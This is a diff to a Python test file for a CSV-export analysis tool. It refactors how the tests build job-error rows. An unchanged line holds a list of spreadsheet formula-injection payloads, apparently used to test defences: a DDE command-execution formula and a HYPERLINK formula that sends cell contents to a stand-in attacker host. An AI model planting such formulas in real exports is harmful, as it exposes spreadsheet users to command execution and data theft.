@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+from collections.abc import Callable
 from pathlib import Path
 
 import pandas as pd
@@ -15,8 +16,18 @@ from syncanalysis.actions.planfile import PlanFileBackend
 from syncanalysis.analysis.records import Selection, count_records, records
 from syncanalysis.sources import load_files
 
+T5339_HEADER = ("No.,Integration Synch. Job ID,Source Record ID,Destination Record ID,Message,Date/Time,"
+                "Exception Detail,Error Message")
 FORMULAS = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)",
             "\t=1", "\r=1"]
+
+
+def _t5339(n: int, message: Callable[[int], str], logged_at: Callable[[int], str],
+           error_message: Callable[[int], str] | None = None) -> list[str]:
+    """The header and ``n`` rows of a table 5339 export (CSV lines); the functions give row ``i``'s cells."""
+    error_message = error_message or message
+    return [T5339_HEADER] + [f"{i},3b7e2a10-5c1d-4f2e-9a61-0d2c4b6e8f01,Customer: C{i},,{message(i)},{logged_at(i)},,"
+                             f"{error_message(i)}" for i in range(1, n + 1)]
 
 
 def _page_5333(path: Path, descriptions: list[str]) -> Path:
@@ -225,10 +236,7 @@ def test_one_stray_byte_in_a_utf8_file_is_refused_not_read_as_windows_1252(tmp_p
 def test_a_csv_cut_off_in_its_last_row_is_refused_and_changes_nothing(tmp_path, cut):
     from syncanalysis.sources import UnreadableFileError
 
-    rows = ["No.,Integration Synch. Job ID,Source Record ID,Destination Record ID,Message,Date/Time,Exception Detail,"
-            "Error Message"]
-    rows += [f'{i},3b7e2a10-5c1d-4f2e-9a61-0d2c4b6e8f01,Customer: C{i},,"The Customer C{i} failed, x",'
-             f'2026-11-20 08:00:{i:02d},,"The Customer C{i} failed, x"' for i in range(1, 30)]
+    rows = _t5339(29, lambda i: f'"The Customer C{i} failed, x"', lambda i: f"2026-11-20 08:00:{i:02d}")
     full = ("\r\n".join(rows) + "\r\n").encode("utf-8")
     path = tmp_path / "Integration Synch. Job Errors.csv"
     path.write_bytes(full)
@@ -264,11 +272,7 @@ def test_reloading_a_page_5338_export_with_its_time_zone_replaces_its_jobs(tmp_p
 def test_an_impossible_date_in_an_iso_column_is_refused_naming_its_row(tmp_path, bad):
     from syncanalysis.sources import ValueParseError
 
-    rows = ["No.,Integration Synch. Job ID,Source Record ID,Destination Record ID,Message,Date/Time,Exception Detail,"
-            "Error Message"]
-    rows += [f"{i},3b7e2a10-5c1d-4f2e-9a61-0d2c4b6e8f01,Customer: C{i},,m{i},2026-11-20T08:00:{i:02d}Z,,m{i}"
-             for i in range(1, 10)]
-    rows.append(f"10,3b7e2a10-5c1d-4f2e-9a61-0d2c4b6e8f01,Customer: C10,,m10,{bad},,m10")
+    rows = _t5339(10, lambda i: f"m{i}", lambda i: bad if i == 10 else f"2026-11-20T08:00:{i:02d}Z")
     path = tmp_path / "Integration Synch. Job Errors.csv"
     path.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8")
     ws = Workspace()
@@ -280,10 +284,8 @@ def test_an_impossible_date_in_an_iso_column_is_refused_naming_its_row(tmp_path,
 def test_a_nul_byte_after_the_first_megabyte_is_refused(tmp_path):
     from syncanalysis.sources import UnreadableFileError
 
-    rows = ["No.,Integration Synch. Job ID,Source Record ID,Destination Record ID,Message,Date/Time,Exception Detail,"
-            "Error Message"]
-    rows += [f"{i},3b7e2a10-5c1d-4f2e-9a61-0d2c4b6e8f01,Customer: C{i},,The Customer C{i} failed {'x' * 100},"
-             f"2026-11-20T08:00:00Z,,The Customer C{i} failed" for i in range(1, 12001)]
+    rows = _t5339(12000, lambda i: f"The Customer C{i} failed {'x' * 100}", lambda i: "2026-11-20T08:00:00Z",
+                  lambda i: f"The Customer C{i} failed")
     rows[11000] = rows[11000].replace("failed", "fai\x00led", 1)
     path = tmp_path / "Integration Synch. Job Errors.csv"
     path.write_text("\r\n".join(rows) + "\r\n", encoding="utf-8")
@@ -379,10 +381,8 @@ def test_a_gzip_export_that_ends_early_is_refused_as_truncated(tmp_path):
 def test_a_stray_byte_after_the_first_megabyte_is_refused_naming_its_line(tmp_path):
     from syncanalysis.sources import UnreadableFileError
 
-    rows = ["No.,Integration Synch. Job ID,Source Record ID,Destination Record ID,Message,Date/Time,Exception Detail,"
-            "Error Message"]
-    rows += [f"{i},3b7e2a10-5c1d-4f2e-9a61-0d2c4b6e8f01,Customer: C{i},,Société {i} {'x' * 100},2026-11-20T08:00:00Z,,"
-             f"Société {i}" for i in range(1, 12001)]
+    rows = _t5339(12000, lambda i: f"Société {i} {'x' * 100}", lambda i: "2026-11-20T08:00:00Z",
+                  lambda i: f"Société {i}")
     data = ("\r\n".join(rows) + "\r\n").encode("utf-8")
     at = data.find(b"Customer: C11000,")
     path = tmp_path / "Integration Synch. Job Errors.csv"
